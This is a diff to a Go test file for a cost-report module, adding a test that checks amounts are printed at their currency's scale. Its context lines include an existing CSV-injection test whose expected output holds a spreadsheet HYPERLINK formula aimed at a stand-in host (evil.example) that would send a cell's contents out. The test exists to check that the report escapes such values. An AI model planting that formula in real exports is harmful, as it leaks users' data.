@@ -23,3 +23,27 @@ func TestReportCSVInjection(t *testing.T) {
 	assert.Equal(t, "period,currency,org,project,client,model,contracts,gpu_seconds,cost\n"+
 		`2026-11-20,CRED,,,'@alice,"'=HYPERLINK(""http://evil.example/?""&A1,""H100"")",1,-1,-0.5`+"\n", buf.String())
 }
+
+// TestReportOneMoneyFormat: every amount of the report's tables at its
+// currency's scale, so that 4 CRED is 4.00 beside 1.83; a currency the
+// ledger does not know is written exactly.
+func TestReportOneMoneyFormat(t *testing.T) {
+	d := decimal.RequireFromString
+	r := breakdown.Report{
+		Lines: []breakdown.Line{
+			{Period: "2026-11-20", Currency: "CRED", Client: "ada", Model: "H100", Contracts: 1, GPUSeconds: d("10"), Cost: d("4")},
+			{Period: "2026-11-20", Currency: "CRED", Client: "bob", Model: "H100", Contracts: 1, GPUSeconds: d("5"), Cost: d("1.83")},
+			{Period: "2026-11-20", Currency: "ODD", Client: "cyd", Model: "H100", Contracts: 1, GPUSeconds: d("5"), Cost: d("1.5")},
+		},
+		Servers: []breakdown.ServerLine{{Period: "2026-11-20", Server: "gpu1", Currency: "CRED", Contracts: 2, GPUSeconds: d("15"), Revenue: d("5.83")}},
+		Prices:  []breakdown.PriceLine{{Period: "2026-11-20", Currency: "CRED", GPUSeconds: d("15"), Cost: d("6"), PerGPUSecond: d("0.4")}},
+	}
+	var buf bytes.Buffer
+	require.NoError(t, writeReportTables(&buf, r, func(code string) (int32, bool) { return 2, code == "CRED" }))
+	out := buf.String()
+	assert.Regexp(t, `ada +H100 +1 +10\.0 +4\.00 CRED\n`, out)
+	assert.Regexp(t, `bob +H100 +1 +5\.0 +1\.83 CRED\n`, out)
+	assert.Regexp(t, `cyd +H100 +1 +5\.0 +1\.5 ODD\n`, out)
+	assert.Regexp(t, `gpu1 +2 +15\.0 +5\.83 CRED +-\n`, out)
+	assert.Regexp(t, `CRED +15\.0 +6\.00 CRED +0\.4\n`, out)
+}
